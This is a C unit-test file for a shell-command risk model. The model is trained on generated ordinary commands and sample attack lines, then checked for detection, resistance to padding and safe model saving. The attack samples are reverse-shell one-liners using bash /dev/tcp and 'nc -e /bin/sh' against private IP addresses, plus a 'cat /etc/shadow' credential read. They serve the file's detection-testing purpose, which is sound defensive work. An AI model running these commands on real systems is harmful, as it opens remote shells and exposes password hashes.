/* SPDX-License-Identifier: Apache-2.0 */
/* Text models: skeletons, padded commands found, bytes that survive and bytes that do not. */
#include "test.h"

#include "models/text.h"

#include <stdio.h>

static void a_skeleton_masks_names_numbers_and_texts(void **state)
{
    static const struct {
        const char *line, *skeleton;
    } cases[] = {
        { "find /tmp -name \"*.c\" -mtime 7", "find P -name Q -mtime N" },
        { "find ~/src -name '*.h' -mtime 30", "find P -name Q -mtime N" },
        { "echo 'open", "echo 'open" },
        { "", "" },
    };

    for (size_t i = 0; i < RV_COUNT(cases); i++) {
        struct rv_buf skeleton = { 0 };

        rv_buf_add_str(&skeleton, "");
        rv_text_skeleton(&skeleton, rv_span_str(cases[i].line));
        assert_string_equal(skeleton.data ? skeleton.data : "", cases[i].skeleton);
        rv_buf_done(&skeleton);
    }
}

static void add(struct rv_lines *set, const char *text)
{
    char copy[256];
    struct rv_line line = { .text = copy };

    (void)snprintf(copy, sizeof(copy), "%s", text);
    rv_assert_ok(rv_lines_add(set, &line));
}

/** Ordinary lines: every seventh is kept for testing. */
static void make_normal(struct rv_lines *learnt, struct rv_lines *kept)
{
    static const char *const verbs[] = { "ls", "cat", "grep foo", "wc", "sort", "head", "du" };
    static const char *const options[] = { "-l", "-n", "-r", "--all", "-h", "" };
    static const char *const names[] = { "file", "src/main.c", "*.txt", "/var/log/syslog", "a b" };
    char text[128];

    for (size_t v = 0; v < RV_COUNT(verbs); v++) {
        for (size_t o = 0; o < RV_COUNT(options); o++) {
            for (size_t n = 0; n < RV_COUNT(names); n++) {
                (void)snprintf(text, sizeof(text), "%s %s %s", verbs[v], options[o], names[n]);
                add((v + o + n) % 7 ? learnt : kept, text);
            }
        }
    }
}

static void make_sets(struct rv_lines *normal, struct rv_lines *attack)
{
    struct rv_lines kept = { 0 };
    char text[128];

    make_normal(normal, &kept);
    rv_lines_done(&kept);
    for (unsigned port = 4000; port < 4012; port++) {
        (void)snprintf(text, sizeof(text), "bash -i >& /dev/tcp/10.0.0.%u/%u 0>&1", port % 250,
                       port);
        add(attack, text);
        (void)snprintf(text, sizeof(text), "nc -e /bin/sh 10.1.0.%u %u", port % 250, port);
        add(attack, text);
    }
}

static uint32_t risk_of(const struct rv_text_model *model, const char *text)
{
    struct rv_score score;

    rv_assert_ok(rv_text_score(model, rv_span_str(text), &score));
    return score.risk;
}

static unsigned false_alarms(const struct rv_text_model *model)
{
    struct rv_lines learnt = { 0 }, kept = { 0 };
    unsigned count = 0;

    make_normal(&learnt, &kept);
    for (size_t i = 0; i < kept.count; i++)
        count += risk_of(model, kept.items[i].text) >= 200;
    assert_int_equal(kept.count, 30);
    rv_lines_done(&learnt);
    rv_lines_done(&kept);
    return count;
}

static double raw_of(const struct rv_text_model *model, const char *text)
{
    struct rv_score score;

    rv_assert_ok(rv_text_score(model, rv_span_str(text), &score));
    return score.raw;
}

/** The score of a command behind `bytes` of harmless ones. */
static double raw_behind(const struct rv_text_model *model, size_t bytes, const char *command)
{
    RV_AUTO(rv_buf_done) struct rv_buf line = { 0 };
    struct rv_score score;

    while (line.len < bytes)
        rv_buf_add_str(&line, "ls -l file ; ");
    rv_buf_add_str(&line, command);
    rv_assert_ok(rv_text_score(model, rv_buf_span(&line), &score));
    return score.raw;
}

static void text_around_a_command_never_lowers_its_score(void **state)
{
    static const char *const commands[] = { "bash -i >& /dev/tcp/10.9.8.7/443 0>&1",
                                            "nc -e /bin/sh 10.1.0.77 4010", "du -h src/main.c" };
    static const char *const pads[] = { "file", "; ls -l file", "# wc -l a b", "| sort",
                                        "&& true" };
    const struct rv_task_options options = { .seed = 1 };
    struct rv_lines normal = { 0 }, attack = { 0 };
    struct rv_text_model *model = NULL;
    char text[512];

    make_sets(&normal, &attack);
    rv_assert_ok(rv_text_train(&model, &normal, &attack, &options));
    for (size_t c = 0; c < RV_COUNT(commands); c++) {
        double alone = raw_of(model, commands[c]);

        for (size_t p = 0; p < RV_COUNT(pads); p++) {
            (void)snprintf(text, sizeof(text), "%s %s %s", commands[c], pads[p], pads[p]);
            assert_true(raw_of(model, text) >= alone - 1e-9);
            (void)snprintf(text, sizeof(text), "ls -n file ; %s", commands[c]);
            assert_true(raw_of(model, text) >= alone - 1e-9);
        }
    }
    assert_true(raw_behind(model, 300000, commands[0]) >= raw_of(model, commands[0]) - 1e-9);
    rv_text_model_free(&model);
    rv_lines_done(&normal);
    rv_lines_done(&attack);
}

static void attacks_are_found_padded_or_not(void **state)
{
    const struct rv_task_options options = { .seed = 1 };
    struct rv_lines normal = { 0 }, attack = { 0 };
    struct rv_text_model *model = NULL;
    struct rv_text_reason reasons[4];

    make_sets(&normal, &attack);
    rv_assert_ok(rv_text_train(&model, &normal, &attack, &options));
    assert_in_range(risk_of(model, "bash -i >& /dev/tcp/192.168.7.9/9001 0>&1"), 200, 300);
    assert_in_range(risk_of(model, "ls -l file ; cat -n src/main.c && bash -i >& "
                                   "/dev/tcp/192.168.7.9/9001 0>&1 | wc -h a b ; du -h *.txt"),
                    200, 300);
    assert_in_range(false_alarms(model), 0, 2); /* of 30; nominal 0.3 */
    assert_int_equal(risk_of(model, ""), 0);
    assert_in_range(rv_text_explain(model, rv_span_str("ls ; nc -e /bin/sh 1.2.3.4 99"), reasons,
                                    RV_COUNT(reasons)),
                    1, 4);
    assert_true(reasons[0].weight > 0);
    rv_text_model_free(&model);
    rv_lines_done(&normal);
    rv_lines_done(&attack);
}

static void saving_changes_nothing_and_damage_is_refused(void **state)
{
    const struct rv_task_options options = { .seed = 1 };
    struct rv_lines normal = { 0 }, attack = { 0 };

    make_sets(&normal, &attack);
    for (int supervised = 0; supervised < 2; supervised++) {
        struct rv_text_model *model = NULL, *again = NULL;
        struct rv_buf first = { 0 }, second = { 0 };

        rv_assert_ok(rv_text_train(&model, &normal, supervised ? &attack : NULL, &options));
        rv_assert_ok(rv_text_save(model, &first));
        rv_assert_ok(rv_text_load(&again, rv_buf_span(&first)));
        rv_assert_ok(rv_text_save(again, &second));
        assert_true(rv_span_eq(rv_buf_span(&first), rv_buf_span(&second)));
        assert_int_equal(risk_of(model, "cat /etc/shadow"), risk_of(again, "cat /etc/shadow"));
        rv_text_model_free(&again);
        for (size_t cut = 0; cut < first.len; cut += 1 + first.len / 50)
            assert_int_equal(rv_text_load(&again, rv_span(first.data, cut)), -EBADMSG);
        rv_text_model_free(&model);
        rv_buf_done(&first);
        rv_buf_done(&second);
    }
    rv_lines_done(&normal);
    rv_lines_done(&attack);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_skeleton_masks_names_numbers_and_texts),
        cmocka_unit_test(text_around_a_command_never_lowers_its_score),
        cmocka_unit_test(attacks_are_found_padded_or_not),
        cmocka_unit_test(saving_changes_nothing_and_damage_is_refused),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
